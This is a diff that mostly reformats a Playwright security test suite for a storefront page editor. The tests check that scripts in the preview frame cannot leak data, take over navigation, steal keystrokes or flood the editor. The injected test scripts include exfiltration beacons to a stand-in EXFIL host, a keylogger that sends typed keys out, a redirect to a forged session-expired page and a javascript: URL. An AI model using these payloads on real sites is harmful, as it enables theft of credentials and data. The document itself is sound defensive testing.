@@ -49,7 +49,10 @@ const tried = (attempt: string, escaped: boolean) => {
   expect(escaped, attempt).toBe(false);
 };
 
-test('the feed relay reads only the feed a block declares, never the app’s data or a local service', async ({ page, host }) => {
+test('the feed relay reads only the feed a block declares, never the app’s data or a local service', async ({
+  page,
+  host,
+}) => {
   const exfiltrated = await watchExfiltration(page);
   const localService = await listen((_request, response) => {
     response.writeHead(200, { 'content-type': 'application/json' }).end('{"secret":"LOCAL-SERVICE-SECRET"}');
@@ -69,7 +72,9 @@ test('the feed relay reads only the feed a block declares, never the app’s dat
     const blogId = await preview(page).locator('[data-component="Blog"]').getAttribute('data-identifier');
 
     // The page listens to every answer and asks by URL, the old way, and by the Blog's identifier.
-    await applyScript(page, `
+    await applyScript(
+      page,
+      `
 const leak = (label, value) => { new Image().src = '${EXFIL}/' + label + '?d=' + encodeURIComponent(JSON.stringify(value)); };
 window.preview.onCommand((command) => { if (command.type === 'feed') leak('feed', command); });
 for (const url of ['/pages', '/pages?fascia=site_jd', '${host.url}/api/listPages', '${localService.url}/']) {
@@ -78,7 +83,8 @@ for (const url of ['/pages', '/pages?fascia=site_jd', '${host.url}/api/listPages
 }
 fetch('${host.url}/api/listPages', { method: 'POST', body: '{}' }).then((r) => r.text()).then((t) => leak('api', t), (e) => leak('api-failed', String(e)));
 fetch('${localService.url}/').then((r) => r.text()).then((t) => leak('local', t), (e) => leak('local-failed', String(e)));
-document.body.dataset.hostile = 'ran';`);
+document.body.dataset.hostile = 'ran';`,
+    );
     await expect(previewBody(page)).toHaveAttribute('data-hostile', 'ran');
 
     // Now the Blog itself declares hostile feeds: the app's saved-pages list, another page, a local service.
@@ -95,25 +101,44 @@ document.body.dataset.hostile = 'ran';`);
       await apiLink.fill(address);
       await expect(preview(page).locator('.blog-failed')).toContainText(reason);
     }
-    await expect.poll(() => exfiltrated.filter((url) => url.includes('/feed?')).length).toBeGreaterThanOrEqual(refusals.length);
+    await expect
+      .poll(() => exfiltrated.filter((url) => url.includes('/feed?')).length)
+      .toBeGreaterThanOrEqual(refusals.length);
     // What would show the relay worked: the saved page's content, the saved-pages list (its author), the
     // local service's answer, a system file.
     const secrets = ['CONFIDENTIAL-PRICING', E2E_USER.toLowerCase(), 'LOCAL-SERVICE-SECRET', 'root:x:0'];
     for (const [address] of refusals) {
-      const answers = exfiltrated.filter((url) => url.includes('/feed?') && url.includes(JSON.stringify(address).slice(1, -1)));
+      const answers = exfiltrated.filter(
+        (url) => url.includes('/feed?') && url.includes(JSON.stringify(address).slice(1, -1)),
+      );
       // The page did see the answer main gave for it: a refusal.
       expect(answers.length, address).toBeGreaterThan(0);
-      tried(`feed relay to ${address}`, answers.some((url) => secrets.some((secret) => url.includes(secret))));
+      tried(
+        `feed relay to ${address}`,
+        answers.some((url) => secrets.some((secret) => url.includes(secret))),
+      );
     }
-    tried('feed requested by URL', exfiltrated.some((url) => url.includes('/feed?') && url.includes('"data"') && !url.includes('blog')));
-    tried('fetch of the API and the local service', exfiltrated.some((url) => /\/(api|local)\?/.test(url)));
-    tried('anything secret, by any way', exfiltrated.some((url) => secrets.some((secret) => url.includes(secret))));
+    tried(
+      'feed requested by URL',
+      exfiltrated.some((url) => url.includes('/feed?') && url.includes('"data"') && !url.includes('blog')),
+    );
+    tried(
+      'fetch of the API and the local service',
+      exfiltrated.some((url) => /\/(api|local)\?/.test(url)),
+    );
+    tried(
+      'anything secret, by any way',
+      exfiltrated.some((url) => secrets.some((secret) => url.includes(secret))),
+    );
   } finally {
     localService.server.close();
   }
 });
 
-test('a preview that navigates away is put back, and messages from anywhere else are never heard', async ({ page, host }) => {
+test('a preview that navigates away is put back, and messages from anywhere else are never heard', async ({
+  page,
+  host,
+}) => {
   const foreignMessages: string[] = [];
   // The foreign "session expired" page: it forges the preview's messages and tries to take over its port.
   const foreign = await listen((request, response) => {
@@ -143,13 +168,18 @@ test('a preview that navigates away is put back, and messages from anywhere else
     await expect(page.getByRole('button', { name: 'Links in Preview: Inactive' })).toBeVisible();
 
     // Once per frame (window.name outlives the document): leave for the foreign page.
-    await applyScript(page, `
+    await applyScript(
+      page,
+      `
 if (!window.name.startsWith('left')) {
   window.name = 'left|' + ${JSON.stringify(bannerId)};
   setTimeout(() => { location.href = '${foreign.url}/session-expired'; }, 50);
-}`);
+}`,
+    );
     await expect.poll(() => foreignMessages.length).toBeGreaterThan(0);
-    await expect(page.getByText('A script in the preview tried to leave the page while Links in Preview is Inactive')).toBeVisible();
+    await expect(
+      page.getByText('A script in the preview tried to leave the page while Links in Preview is Inactive'),
+    ).toBeVisible();
     // Back on the page, with the editor's content.
     await expect(preview(page).locator('[data-component="MainBanner"] h2')).toHaveText('New Season Trainers');
     await expect(preview(page).getByRole('heading', { name: 'Session expired, enter your password' })).toHaveCount(0);
@@ -178,23 +208,34 @@ if (!window.name.startsWith('left')) {
     // A link the preview asks to follow is gated by the navigation rule even while links are active.
     await page.getByRole('button', { name: 'Links in Preview: Inactive' }).click();
     await expect(page.getByRole('button', { name: 'Links in Preview: Active' })).toBeVisible();
-    await applyScript(page, `window.preview.navigate('${host.url}/editor/index.html');
-window.preview.navigate('javascript:alert(1)');`);
+    await applyScript(
+      page,
+      `window.preview.navigate('${host.url}/editor/index.html');
+window.preview.navigate('javascript:alert(1)');`,
+    );
     await expect(previewConsole(page)).toContainText(`Navigation to ${host.url}/editor/index.html was blocked.`);
-    tried('navigation to the editor page while links are active', (await page.frames().filter((f) => f.url().includes('/editor/')).length) > 1);
+    tried(
+      'navigation to the editor page while links are active',
+      (await page.frames().filter((f) => f.url().includes('/editor/')).length) > 1,
+    );
   } finally {
     foreign.server.close();
   }
 });
 
-test('a script cannot take the keyboard from the editor: focus goes back and typed text stays in the editor', async ({ page, host }) => {
+test('a script cannot take the keyboard from the editor: focus goes back and typed text stays in the editor', async ({
+  page,
+  host,
+}) => {
   const exfiltrated = await watchExfiltration(page);
   await createPage(page, host, 'hostile focus');
   await addComponent(page, 'Main Banner');
   // Emptied before the script runs: only typed characters are handed back to the editor, not a select-all.
   const name = page.getByLabel('Name', { exact: true });
   await name.fill('');
-  await applyScript(page, `
+  await applyScript(
+    page,
+    `
 const trap = document.body.appendChild(document.createElement('input'));
 trap.id = 'trap';
 let captured = '';
@@ -216,7 +257,8 @@ setInterval(() => {
   document.body.dataset.captured = captured + '|' + trap.value + inDialog.value + label.firstChild.value;
   if (captured || trap.value) new Image().src = '${EXFIL}/keys?d=' + encodeURIComponent(captured + trap.value);
 }, 5);
-document.body.dataset.hostile = 'ran';`);
+document.body.dataset.hostile = 'ran';`,
+  );
   await expect(previewBody(page)).toHaveAttribute('data-hostile', 'ran');
   // Counts the times the script did take the focus from the editor, to show the attack was real.
   await page.evaluate(() => {
@@ -251,11 +293,16 @@ document.body.dataset.hostile = 'ran';`);
   await expect(name).toHaveValue('typed by editor');
 });
 
-test('a flood of messages is dropped past each type’s budget, with one notice, and the editor keeps working', async ({ page, host }) => {
+test('a flood of messages is dropped past each type’s budget, with one notice, and the editor keeps working', async ({
+  page,
+  host,
+}) => {
   // About 25,000 messages a run, hundreds of times every budget; no timing is asserted.
   await createPage(page, host, 'hostile flood');
   await addComponent(page, 'Main Banner');
-  await applyScript(page, `
+  await applyScript(
+    page,
+    `
 let resets = 0;
 window.preview.onCommand((command) => { if (command.type === 'reset') document.body.dataset.resets = String(++resets); });
 const flood = () => {
@@ -265,16 +312,21 @@ const flood = () => {
 };
 flood();
 const timer = setInterval(flood, 100);
-setTimeout(() => { clearInterval(timer); document.body.dataset.flooded = 'done'; }, 2000);`);
+setTimeout(() => { clearInterval(timer); document.body.dataset.flooded = 'done'; }, 2000);`,
+  );
   // The editor answers while the flood goes on.
   const title = page.getByRole('textbox', { name: 'Title', exact: true });
   await title.fill('Answered during the flood');
-  await expect(preview(page).locator('[data-component="MainBanner"] h2')).toHaveText('Answered during the flood', { timeout: 5000 });
+  await expect(preview(page).locator('[data-component="MainBanner"] h2')).toHaveText('Answered during the flood', {
+    timeout: 5000,
+  });
   await expect(previewBody(page)).toHaveAttribute('data-flooded', 'done', { timeout: 10_000 });
   const resets = Number((await previewBody(page).getAttribute('data-resets')) ?? '0');
   // Budget for ready: 4 in 10 s (core/preview.ts), so the whole page was sent again at most 4 times.
   tried('ready flood (whole-page answers beyond the budget)', resets > 4);
-  await expect(previewConsole(page)).toContainText('Storefront Studio dropped "ready" messages from the preview: more than 4 in 10 s.');
+  await expect(previewConsole(page)).toContainText(
+    'Storefront Studio dropped "ready" messages from the preview: more than 4 in 10 s.',
+  );
   await expect(previewConsole(page).getByText('dropped "ready" messages')).toHaveCount(1);
   await expect(previewConsole(page)).toContainText('dropped messages from the preview that it does not understand');
   await title.fill('Still answering');
